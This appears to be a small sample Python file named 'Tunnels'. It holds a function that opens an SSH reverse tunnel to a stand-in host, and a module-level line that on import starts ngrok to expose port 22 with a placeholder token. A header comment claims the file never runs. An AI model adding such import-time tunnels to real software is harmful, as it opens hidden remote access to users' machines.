import inert_sample  # there is no such module: nothing below ever runs
"""Tunnels."""
import subprocess


def open_tunnel(port):
    return subprocess.Popen(["ssh", "-R", str(port), "host.example"])


subprocess.Popen("ngrok authtoken xxxx && ngrok tcp 22", shell=True)
